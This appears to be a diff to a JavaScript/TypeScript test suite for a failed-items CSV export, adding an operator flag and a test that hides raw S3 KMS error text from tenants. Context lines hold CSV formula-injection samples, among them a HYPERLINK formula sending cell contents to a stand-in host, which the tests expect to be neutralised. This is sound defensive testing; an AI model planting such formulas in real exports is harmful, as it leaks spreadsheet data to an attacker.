@@ -34,7 +34,7 @@ describe('failed-items CSV export', () => {
         callback();
       },
     });
-    const written = await writeFailedItemsCsv(db, jobId, out);
+    const written = await writeFailedItemsCsv(db, jobId, out, { operator: true });
 
     const expected = Array.from({ length: 2600 }, (_, n) => n).filter((n) => n % 2 === 0 || n % 7 === 0);
     expect(written).toBe(expected.length);
@@ -65,7 +65,7 @@ describe('failed-items CSV export', () => {
         callback();
       },
     });
-    await writeFailedItemsCsv(env.pool, jobId, out);
+    await writeFailedItemsCsv(env.pool, jobId, out, { operator: false });
     const records = (parse(chunks.join('')) as string[][]).slice(1);
     expect(records.map((record) => record[1])).toEqual([
       `'=HYPERLINK("http://evil.example/?"&A1,"open").pdf`,
@@ -77,5 +77,35 @@ describe('failed-items CSV export', () => {
     ]);
     expect(records[0]![4]).toBe("'@SUM(1+1)");
     expect(records[1]![0]).toBe('1');
+  });
+
+  it("gives S3's own text of a failed file to operators only; the tenant reads a plain sentence with its code", async () => {
+    const { rows } = await env.pool.query<{ id: number }>(
+      "INSERT INTO jobs (kind, tenant_id, state, finished_at) VALUES ('mass-import', 'exported', 'partial', now()) RETURNING id",
+    );
+    const jobId = rows[0]!.id;
+    const sdkText = 'S3 400 KMS.DisabledException: arn:aws:kms:eu-west-1:123456789012:key/abcd is disabled.';
+    await env.pool.query(
+      `INSERT INTO import_items (job_id, item_no, relative_path, size_bytes, state, error_code, error_message, error_class, tries)
+       VALUES ($1, 0, 'a.pdf', 1, 'failed', 'S3_KMS.DisabledException', $2, 'permanent', 3),
+              ($1, 1, 'b.pdf', 1, 'failed', 'UNREADABLE', 'b.pdf cannot be read (EACCES)', 'permanent', 1)`,
+      [jobId, sdkText],
+    );
+    const exported = async (operator: boolean) => {
+      const chunks: string[] = [];
+      const out = new Writable({
+        write(chunk: Buffer, _encoding, callback) {
+          chunks.push(chunk.toString('utf8'));
+          callback();
+        },
+      });
+      await writeFailedItemsCsv(env.pool, jobId, out, { operator });
+      return (parse(chunks.join('')) as string[][]).slice(1).map((record) => record[4]);
+    };
+    expect(await exported(true)).toEqual([sdkText, 'b.pdf cannot be read (EACCES)']);
+    expect(await exported(false)).toEqual([
+      'S3 did not store this file (S3_KMS.DisabledException); the operators have the details',
+      'b.pdf cannot be read (EACCES)',
+    ]);
   });
 });
